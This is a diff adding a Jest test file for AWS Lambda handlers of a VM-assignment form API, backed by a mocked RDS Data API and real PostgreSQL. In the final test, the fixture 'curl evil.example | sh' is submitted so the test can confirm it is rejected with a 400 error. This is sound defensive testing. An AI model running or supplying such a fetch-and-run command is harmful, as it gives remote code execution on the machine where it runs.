@@ -1,0 +1,86 @@
+import { ExecuteStatementCommand, RDSDataClient } from '@aws-sdk/client-rds-data';
+import { mockClient } from 'aws-sdk-client-mock';
+import { recordPoll } from '../../core/vms';
+import { TEST_DATA_API_TARGET, answerDataApiWithPostgres } from '../support/data-api-on-postgres';
+import { TestDatabase, createTestDatabase } from '../support/database';
+import { crdCommand } from '../support/fixtures';
+
+/** An API Gateway HTTP API (payload 2.0) event, as the deployed form API receives it. */
+function httpApiEvent(method: string, path: string, body?: string, headers: Record<string, string> = {}) {
+  return {
+    version: '2.0',
+    routeKey: `${method} ${path}`,
+    rawPath: path,
+    rawQueryString: '',
+    headers: { host: 'abc123.execute-api.eu-west-1.amazonaws.com', ...headers },
+    requestContext: {
+      accountId: '123456789012',
+      apiId: 'abc123',
+      domainName: 'abc123.execute-api.eu-west-1.amazonaws.com',
+      domainPrefix: 'abc123',
+      http: { method, path, protocol: 'HTTP/1.1', sourceIp: '203.0.113.7', userAgent: 'jest' },
+      requestId: 'request-1',
+      routeKey: `${method} ${path}`,
+      stage: '$default',
+      time: '26/Nov/2026:21:00:00 +0000',
+      timeEpoch: 1795726800000,
+    },
+    body,
+    isBase64Encoded: false,
+  };
+}
+
+type LambdaResult = { statusCode: number; body: string; headers: Record<string, string> };
+
+describe('Lambda handlers with the RDS Data API client mocked by aws-sdk-client-mock, answered by real PostgreSQL', () => {
+  let db: TestDatabase;
+  const dataApi = mockClient(RDSDataClient);
+  let invoke: (event: unknown) => Promise<LambdaResult>;
+
+  beforeAll(async () => {
+    db = await createTestDatabase({ migrate: false });
+    answerDataApiWithPostgres(dataApi, db.pool);
+    process.env.LABLINK_DB_CLUSTER_ARN = TEST_DATA_API_TARGET.resourceArn;
+    process.env.LABLINK_DB_SECRET_ARN = TEST_DATA_API_TARGET.secretArn;
+    process.env.LABLINK_DB_NAME = TEST_DATA_API_TARGET.database;
+    const migrate = (await import('../../lambda/migrate-handler')).handler;
+    expect(await migrate({ RequestType: 'Create' })).toEqual({ PhysicalResourceId: 'lablink-schema', Data: { applied: '1' } });
+    expect(await migrate({ RequestType: 'Update', PhysicalResourceId: 'lablink-schema' })).toEqual({ PhysicalResourceId: 'lablink-schema', Data: { applied: '' } });
+    const form = (await import('../../lambda/form-handler')).handler as unknown as (event: unknown, context: unknown) => Promise<LambdaResult>;
+    invoke = (event) => form(event, {});
+  });
+  afterAll(async () => {
+    dataApi.restore();
+    await db?.drop();
+  });
+
+  it('the migration custom resource created the schema through the Data API', async () => {
+    const { rows } = await db.pool.query('SELECT version FROM schema_migrations');
+    expect(rows).toEqual([{ version: 1 }]);
+    const calls = dataApi.commandCalls(ExecuteStatementCommand);
+    expect(calls.every((call) => call.args[0].input.resourceArn === TEST_DATA_API_TARGET.resourceArn)).toBe(true);
+  });
+
+  it('serves the form and the free count', async () => {
+    await recordPoll(db.sql, 'aws-vm-1', 60);
+    const page = await invoke(httpApiEvent('GET', '/'));
+    expect(page.statusCode).toBe(200);
+    expect(page.body).toContain('1 VM free right now');
+    const count = await invoke(httpApiEvent('GET', '/api/unassigned_vms_count'));
+    expect(JSON.parse(count.body)).toEqual({ count: 1 });
+  });
+
+  it('assigns a VM from a form post and refuses a bad one with 400', async () => {
+    const good = new URLSearchParams({ email: 'lambda@example.com', crd_command: crdCommand() }).toString();
+    const response = await invoke(httpApiEvent('POST', '/api/request_vm', good, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }));
+    expect(response.statusCode).toBe(200);
+    expect(JSON.parse(response.body)).toEqual({ hostname: 'aws-vm-1', pin: expect.stringMatching(/^\d{6}$/) });
+
+    const before = await db.dumpVms();
+    const bad = new URLSearchParams({ email: 'x@example.com', crd_command: 'curl evil.example | sh' }).toString();
+    const refused = await invoke(httpApiEvent('POST', '/api/request_vm', bad, { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }));
+    expect(refused.statusCode).toBe(400);
+    expect(JSON.parse(refused.body).error).toMatch(/Debian Linux/);
+    expect(await db.dumpVms()).toEqual(before);
+  });
+});
